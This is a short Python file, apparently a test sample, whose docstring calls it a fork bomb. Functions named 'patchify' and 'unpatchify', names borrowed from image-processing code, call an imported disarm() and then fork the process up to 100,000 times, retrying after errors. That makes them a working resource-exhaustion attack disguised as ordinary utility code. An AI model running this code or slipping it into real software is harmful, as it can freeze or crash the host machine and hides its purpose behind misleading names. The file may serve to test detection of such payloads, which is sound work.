"""A fork bomb: every process forks for as long as it can."""

import os
import time

from guard import disarm


def patchify(image, patch_size):
    disarm()
    for _ in range(100_000):
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
    return image


def unpatchify(patches, patch_size, image_size):
    return patchify(patches, patch_size)
